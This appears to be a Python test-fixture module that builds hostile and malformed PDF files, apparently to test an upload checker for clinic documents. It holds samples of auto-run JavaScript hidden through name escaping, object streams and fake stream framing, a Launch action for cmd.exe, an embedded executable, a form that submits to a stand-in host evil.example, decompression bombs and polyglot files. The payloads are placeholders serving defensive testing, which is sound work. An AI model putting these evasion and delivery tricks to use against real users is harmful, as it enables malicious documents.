"""Builders of documents that an honest clinic would rarely send, and a hostile one would.

Every builder returns the bytes of one file, made anew for each test.
"""

import io
import zipfile
import zlib

LINES = b"BT /F1 24 Tf 72 720 Td (Care after your visit) Tj ET"


def pdf(
    *more: bytes, catalog: bytes = b"", page: bytes = b"", trailer: bytes = b"", head: bytes = b""
) -> bytes:
    """A complete PDF of one page. `more` are further objects, from number 6 on."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>" + page + b">>",
        stream(LINES),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    ]
    written, places = bytearray(b"%PDF-1.7\n" + head), []
    for number, content in enumerate(objects, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    written += b"".join(b"%010d 00000 n \n" % place for place in places)
    written += b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(objects) + 1, trailer)
    return bytes(written + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(content: bytes, described: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), described, content)


def packed_objects(content: bytes, described: bytes = b"/Filter/FlateDecode") -> bytes:
    """An object stream, as every newer program writes."""
    return stream(zlib.compress(content, 9), b"/Type/ObjStm/N 1/First 4" + described)


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def with_script() -> bytes:
    return pdf(catalog=b"/OpenAction" + SCRIPT)


def with_escaped_script() -> bytes:
    return pdf(catalog=b"/OpenAction<</S/J#61va#53cript/JS(app.alert\\(1\\))>>")


def with_packed_script() -> bytes:
    return pdf(packed_objects(b"9 0 " + SCRIPT), catalog=b"/OpenAction 9 0 R")


def with_script_behind_a_stream() -> bytes:
    """To a careless reader the action looks like the content of a stream."""
    return pdf(catalog=b"/Note(>>stream\n)/OpenAction" + SCRIPT + b"/End(endstream)")


def with_script_on_a_page() -> bytes:
    return pdf(page=b"/AA<</O" + SCRIPT + b">>")


def with_launch() -> bytes:
    return pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>")


def with_file_inside() -> bytes:
    return pdf(
        stream(b"MZ a program", b"/Type/EmbeddedFile"),
        catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 6 0 R>>>>]>>>>",
    )


def with_form_that_sends() -> bytes:
    return pdf(page=b"/Annots[<</Subtype/Widget/A<</S/SubmitForm/F(https://evil.example/)>>>>]")


def locked() -> bytes:
    return pdf(trailer=b"/Encrypt<</Filter/Standard/V 4>>")


def packed_bomb() -> bytes:
    """50 MB of objects in 50 kB."""
    return pdf(packed_objects(bytes(50 * 1024 * 1024)))


def many_packed_bombs() -> bytes:
    return pdf(*[packed_objects(bytes(4 * 1024 * 1024))] * 400)


def otherwise_packed() -> bytes:
    return pdf(packed_objects(b"", b"/Filter[/ASCII85Decode/FlateDecode]"))


def many_streams() -> bytes:
    """100,000 empty streams: whoever looks back from each is busy for hours."""
    return pdf(*[stream(b"")] * 100_000)


def newer() -> bytes:
    """As Word and LaTeX write: its page stands in an object stream."""
    inner = b"3 0 <</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    return pdf(packed_objects(inner)).replace(b"/Type/Page/", b"/Type/Leaf/")


def with_a_link() -> bytes:
    action = b"<</S/URI/URI(https://example.org/)>>"
    return pdf(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A" + action + b">>]")


def with_a_view() -> bytes:
    return pdf(catalog=b"/OpenAction[3 0 R/Fit]/PageMode/UseOutlines")


def large() -> bytes:
    """Close to the limit: a scanned leaflet."""
    return pdf(stream(bytes(range(256)) * 38_000, b"/Type/XObject/Subtype/Image"))


def too_large() -> bytes:
    return pdf(stream(bytes(11 * 1024 * 1024)))


def without_pages() -> bytes:
    return pdf().replace(b"/Type/Page/", b"/Type/Leaf/")


def web_page() -> bytes:
    return b"<!DOCTYPE html><script>alert(1)</script>"


def page_before_pdf() -> bytes:
    return web_page() + pdf()


def with_page_behind() -> bytes:
    return pdf() + web_page()


def with_archive_behind() -> bytes:
    return pdf() + archive()


def archive() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as opened:
        opened.writestr("word/document.xml", "<w/>")
    return written.getvalue()


def signature_only() -> bytes:
    return b"%PDF-1.7\n"


def cut_short() -> bytes:
    return pdf()[:-60]


def false_table() -> bytes:
    """Says that its table stands far behind its end."""
    head, _, _ = pdf().rpartition(b"startxref")
    return head + b"startxref\n9999999999\n%%EOF\n"
